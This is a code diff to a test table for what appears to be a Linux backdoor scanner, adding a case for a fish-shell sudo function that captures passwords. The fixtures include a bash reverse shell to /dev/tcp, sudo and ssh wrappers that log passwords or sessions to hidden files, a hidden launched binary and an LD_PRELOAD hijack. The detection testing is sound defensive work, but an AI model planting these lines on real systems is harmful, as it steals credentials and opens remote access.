@@ -33,6 +33,7 @@ test.each<[string, Machine, string[]]>([
 	['a shell is handed out at each login', { '/etc/profile.d/x.sh': '(bash -i >& /dev/tcp/192.0.2.1/4 0>&1 &)\n' }, ['critical /etc/profile.d/x.sh']],
 	['sudo is another program', { '/home/ann/.bashrc': own('alias sudo=/home/ann/.cache/s/sudo\n') }, ['high /home/ann/.bashrc']],
 	['sudo is a function that listens', { '/home/ann/.bash_aliases': own('sudo() { read -sp "password: " p; echo "$p" >> /var/tmp/.p; command sudo -S "$@" <<< "$p"; }\n') }, ['high /home/ann/.bash_aliases']],
+	['sudo is a function of fish that listens', { '/home/ann/.config/fish/functions/sudo.fish': own('function sudo\n  read -s -P "password: " p; echo $p >> /tmp/.p\n  command sudo $argv\nend\n') }, ['high /home/ann/.config/fish/functions/sudo.fish']],
 	['ssh is a function that writes down what is typed', { '/etc/bash.bashrc': 'ssh() { /usr/bin/script -qefc "/usr/bin/ssh $*" /var/tmp/.ssh.log; }\n' }, ['high /etc/bash.bashrc']],
 	['a program from a hidden place within another', { '/home/ann/.profile': own('nohup ~/.config/.gnome/agent >/dev/null 2>&1 &\n'), '/home/ann/.config/.gnome/agent': { mode: 0o755, uid: 1000, content: '\x7fELF' } }, ['medium /home/ann/.profile']],
 	['a library for each program', { '/home/ann/.zshenv': own('export LD_PRELOAD=/tmp/x.so\n'), '/tmp/x.so': '' }, ['high /home/ann/.zshenv']],
